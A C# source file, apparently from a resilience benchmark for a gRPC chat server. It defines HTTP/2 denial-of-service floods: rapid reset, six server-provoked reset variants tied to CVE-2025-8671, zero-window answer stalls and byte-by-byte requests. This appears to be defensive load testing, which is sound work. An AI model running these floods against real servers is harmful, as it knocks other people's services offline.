using ChatGo.Api;
using ChatGo.Client.Load.Http2;

namespace ChatGo.Bench.Attacks;

/// <summary>Floods of calls: such as are reset at once, by the peer or by what it makes the server do; such whose
/// answers may not be sent; such whose requests come byte by byte.</summary>
internal static class CallFloods
{
    /// <summary>Calls in a piece.</summary>
    private const int Together = 50;

    private static readonly byte[] Connect = GrpcFrame.Of(new ConnectChatRequest { ChatId = Flood.Room });
    private static readonly byte[] List = GrpcFrame.Of(new ListMessagesRequest { ChatId = Flood.Room, PageSize = 1_000 });
    private static readonly byte[] Send = GrpcFrame.Of(new SendMessageRequest
    {
        ChatId = "honest",
        Message = new Message { From = "honest", Text = new string('x', 64) },
    });

    /// <summary>Well-formed SendMessage calls, of which the next ones wait for the answers.</summary>
    public static Flood Honest { get; } = new("honest", static () => Calls("SendMessage", Send, static _ => []))
    {
        MaxOpen = 100,
        CallsAPiece = Together,
    };

    /// <summary>Gets them.</summary>
    public static IReadOnlyList<Flood> All { get; } =
    [
        new("rapid reset, headers", static () => Calls("ConnectChat", null, AttackFrames.Reset)),
        new("rapid reset, readers", static () => Calls("ConnectChat", Connect, AttackFrames.Reset)),
        // The six ways to make the server reset a stream itself (CVE-2025-8671).
        new("made reset, increment of 0", static () => Calls("ConnectChat", Connect, static stream => AttackFrames.WindowUpdate(stream, 0))),
        new("made reset, window overflows", static () => Calls("ConnectChat", Connect, static stream => AttackFrames.WindowUpdate(stream, int.MaxValue))),
        new("made reset, PRIORITY of 4 bytes", static () => Calls("ConnectChat", Connect, static stream => AttackFrames.Of(AttackFrames.Priority, 0, stream, 0, 0, 0, 0))),
        new("made reset, PRIORITY on itself", static () => Calls("ConnectChat", Connect, static stream => AttackFrames.Of(AttackFrames.Priority, 0, stream, (byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream, 1))),
        new("made reset, HEADERS behind the end", static () => Calls("ConnectChat", Connect, static stream => AttackFrames.Headers(stream, AttackFrames.Field("x", "y"), isEnd: true))),
        new("made reset, DATA behind the end", static () => Calls("ConnectChat", Connect, static stream => AttackFrames.Data(stream, [0], isEnd: false))),
        new("answers without window", static () => Calls("ListMessages", List, static _ => [], (Http2Frame.InitialWindowSetting, 0))),
        new("requests byte by byte", static () => BytewiseCalls(Send)) { MaxOpen = 100, CallsAPiece = 1 },
    ];

    private static IEnumerable<byte[]> Calls(
        string method, byte[]? request, Func<int, byte[]> after, params (short Setting, int Value)[] settings)
    {
        yield return AttackFrames.Opening(settings);
        var headers = new Peers.RequestHeaders($"/chat_v1.ChatV1/{method}");
        for (var stream = 1; stream < int.MaxValue - (2 * Together);)
        {
            var piece = new SendBuffer();
            for (var call = 0; call < Together; call++, stream += 2)
            {
                piece.Write(AttackFrames.Headers(stream, headers.Next()));
                piece.Write(request is null ? [] : AttackFrames.Data(stream, request, isEnd: true));
                piece.Write(after(stream));
            }

            yield return piece.Waiting.ToArray();
        }
    }

    private static IEnumerable<byte[]> BytewiseCalls(byte[] request)
    {
        yield return AttackFrames.Opening();
        var headers = new Peers.RequestHeaders("/chat_v1.ChatV1/SendMessage");
        for (var stream = 1; stream < int.MaxValue - 2; stream += 2)
        {
            var piece = new SendBuffer();
            piece.Write(AttackFrames.Headers(stream, headers.Next()));
            for (var at = 0; at < request.Length; at++)
            {
                piece.Write(AttackFrames.Data(stream, request.AsSpan(at, 1), at == request.Length - 1));
            }

            yield return piece.Waiting.ToArray();
        }
    }
}
